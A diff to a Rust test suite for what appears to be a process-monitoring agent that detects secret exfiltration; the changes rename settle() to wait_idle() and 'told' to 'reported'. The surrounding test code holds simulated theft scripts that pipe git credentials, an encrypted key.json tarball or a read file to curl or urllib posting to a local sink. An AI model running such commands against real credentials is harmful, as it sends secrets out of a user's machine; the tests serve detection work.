@@ -49,7 +49,7 @@ fn run(script: &str, file: &Path, sink: &Sink) -> Done {
         .ok()
 }
 
-/// Fails unless one send is told, and the secret was seen in it.
+/// Fails unless one send is reported, and the secret was seen in it.
 fn is_seen(agent: &Agent, done: &Done, by: &str, file: &Path, script: &str) {
     let sent = sent(agent, done.pid);
     count(&sent, 1, script);
@@ -100,7 +100,7 @@ pub fn seen_at_the_end_of_a_pipeline() {
                 .collect();
             running.into_iter().map(|r| r.join().unwrap()).collect()
         });
-        agent.settle();
+        agent.wait_idle();
         for ((done, file), script) in done.iter().zip(scripts) {
             is_seen(&agent, done, "/curl", file, script);
         }
@@ -163,7 +163,7 @@ pub fn handed_on_in_a_file() {
         .arg(&poor)
         .run()
         .ok();
-    agent.settle();
+    agent.wait_idle();
     for done in [log, pack] {
         let sent = sent(&agent, done.pid);
         assert!(sent.is_empty(), "{}", list(&sent));
@@ -213,7 +213,7 @@ pub fn written_at_the_end_of_a_pipeline() {
                 .env("ENC", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
                 .run()
                 .ok();
-            agent.settle();
+            agent.wait_idle();
             let sent = sent(&agent, done.pid);
             let way = sent.first().map(way).unwrap_or_default();
             let names: Vec<&str> = way.iter().map(|(_, program)| program.as_str()).collect();
@@ -260,7 +260,7 @@ setTimeout(() => curl.stdin.end(require('fs').readFileSync(process.argv[1])), 70
         .limit(30)
         .run()
         .ok();
-    agent.settle();
+    agent.wait_idle();
     let seen = sent(&agent, fed.pid);
     let text = list(&agent.tree(fed.pid));
     let curl: Vec<&Event> = seen
@@ -301,7 +301,7 @@ setTimeout(() => openssl.stdin.end(require('fs').readFileSync(process.argv[1])),
     assert_eq!(way(&event), expected, "{}", event.brief());
 }
 
-/// git's daemon that keeps credentials for a while: told by one program over a socket with a name, and asked by another.
+/// git's daemon that keeps credentials for a while: reported by one program over a socket with a name, and asked by another.
 pub fn kept_by_a_daemon() {
     let _turn = turn();
     let scratch = Scratch::new();
@@ -324,7 +324,7 @@ pub fn kept_by_a_daemon() {
     );
     let kept = sh(&keep).arg(&file).run().ok();
     // The sender is gone by now, and nothing but the daemon has it.
-    agent.settle();
+    agent.wait_idle();
     let ask = format!(
         "printf 'protocol=https\\nhost=git.test\\n\\n' | {git} credential fill | curl -s -d @- \"$1\"; :"
     );
@@ -332,7 +332,7 @@ pub fn kept_by_a_daemon() {
         .arg(format!("http://127.0.0.1:{}/in", sink.port))
         .run()
         .ok();
-    agent.settle();
+    agent.wait_idle();
     let end = sh(&format!(
         "{git} credential-cache --socket={} exit; :",
         socket.display()
@@ -402,7 +402,7 @@ pub fn encrypted_on_its_way() {
     let script = "tar cz -C \"${1%/*}\" key.json | (sleep 1; openssl enc -aes-256-cbc -pbkdf2 -pass file:/proc/version) | \
         curl -sm 60 -T - \"$2\"; :";
     let done = run(script, &file, &sink);
-    agent.settle();
+    agent.wait_idle();
     let sent = sent(&agent, done.pid);
     count(&sent, 1, "sends");
     let text = sent[0].brief();
@@ -450,7 +450,7 @@ loot = subprocess.check_output(['cat', sys.argv[1]])
 time.sleep(1)
 urllib.request.urlopen(sys.argv[2], loot)";
     let taken = python(script, &other);
-    agent.settle();
+    agent.wait_idle();
     is_seen(&agent, &fed, "/curl", &file, "fed");
     let by = sent(&agent, taken.pid);
     let path = by.first().map(programs).unwrap_or_default();
@@ -479,10 +479,10 @@ class Asks(http.server.BaseHTTPRequestHandler):
 server = http.server.HTTPServer(('127.0.0.1', 0), Asks)
 open(sys.argv[1], 'w').write(str(server.server_port))
 server.serve_forever()";
-    let told = scratch.join("port");
-    let _server = act("python3").args(["-c", server]).arg(&told).spawn();
+    let reported = scratch.join("port");
+    let _server = act("python3").args(["-c", server]).arg(&reported).spawn();
     let port: u16 = wait_for("the server", patience(20), || {
-        fs::read_to_string(&told).ok()?.parse().ok()
+        fs::read_to_string(&reported).ok()?.parse().ok()
     });
     let agent = Agent::start(&scratch);
     let token = plant::github();
@@ -502,7 +502,7 @@ server.serve_forever()";
         .arg(format!("http://127.0.0.1:{port}/shop/orders.git"))
         .env("GIT_TERMINAL_PROMPT", "0")
         .run();
-    agent.settle();
+    agent.wait_idle();
     let sent = sent(&agent, git.pid);
     let seen: Vec<&Event> = sent.iter().filter(|e| e.grade() == "observed").collect();
     assert!(!seen.is_empty(), "{}", list(&agent.tree(git.pid)));
@@ -539,7 +539,7 @@ pub fn nothing_of_a_holder_in_it() {
         &sink,
     );
     assert!(sink.has("nothing of interest"));
-    agent.settle();
+    agent.wait_idle();
     for (done, reads) in [(&cat, 0), (&ls, 0), (&beside, 1)] {
         let events = agent.tree(done.pid);
         count(&sent(&agent, done.pid), 0, "sends");
